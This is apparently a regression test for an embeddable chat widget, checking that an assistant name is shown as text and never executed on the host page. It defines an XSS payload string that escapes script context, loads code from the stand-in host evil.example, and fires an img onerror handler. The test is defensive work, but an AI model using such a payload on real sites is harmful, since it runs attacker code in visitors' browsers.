"""The embeddable widget in a real browser with a hostile assistant name: the name is shown, never run."""

from __future__ import annotations

from django_tenants.utils import schema_context

HOSTILE = "*/ window.__pwned=1; import(`//evil.example/x.js`) /* </script><img src=x onerror=__pwned=2>\u2028"


def test_a_hostile_assistant_name_is_text_on_the_embedding_site(committed, live_app, page):
    from assistants.services import assistant_create, widget_key_create

    with schema_context("acme"):
        bot = assistant_create(name=HOSTILE, company="Acme", provider="extractive")
        key = widget_key_create(assistant=bot, allowed_origins=["https://www.acme.example"])
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.set_content("<!doctype html><html><head></head><body><p>Shop</p></body></html>")
    page.add_script_tag(url=live_app.url("acme", f"/assistants/widget.js?key={key.key}"))
    page.wait_for_function("window.__helpdeskWidget === true || window.__pwned !== undefined")
    assert page.evaluate("typeof window.__pwned") == "undefined"  # before the fix: 1 (the name ran as code)
    assert page.locator("[role=dialog]").get_attribute("aria-label") == HOSTILE
    assert errors == [] and not any("evil.example" in url for url in requested)
